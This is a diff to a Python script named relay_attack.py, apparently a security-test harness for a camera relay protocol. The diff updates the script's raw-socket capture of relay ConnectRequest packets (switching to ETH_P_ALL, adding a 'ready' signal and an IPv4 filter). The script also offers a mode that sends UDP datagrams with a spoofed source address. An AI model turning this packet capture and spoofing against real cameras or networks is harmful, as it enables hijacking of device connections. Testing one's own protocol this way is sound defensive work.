@@ -1,8 +1,9 @@
 #!/usr/bin/env python3
 """An attacker on the internet against a camera's relay binding (docs/relay-protocol.md).
 
-  relay_attack.py capture IFACE SECONDS     print the first relay ConnectRequest seen on IFACE
-                                            as "SRC SPORT DST DPORT HEX" (AF_PACKET, both ways)
+  relay_attack.py capture IFACE SECONDS     print "ready" once listening, then the first relay
+                                            ConnectRequest seen on IFACE as
+                                            "SRC SPORT DST DPORT HEX" (AF_PACKET, both ways)
   relay_attack.py send SRC SPORT DST DPORT HEX
                                             send HEX as a UDP datagram from SRC:SPORT (a raw
                                             socket: the source is spoofed, as an attacker's is)
@@ -22,14 +23,18 @@ CONNECT_REQUEST = 4
 
 
 def capture(iface, seconds):
-    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+    # ETH_P_ALL: the kernel hands outgoing frames only to packet sockets of every protocol.
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
     s.bind((iface, 0))
     s.settimeout(0.2)
+    print("ready", flush=True)
     end = time.time() + float(seconds)
     while time.time() < end:
         try:
             frame = s.recv(65535)
         except socket.timeout:
+            continue
+        if frame[12:14] != b"\x08\x00":
             continue
         ip = frame[14:]
         if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != 17:
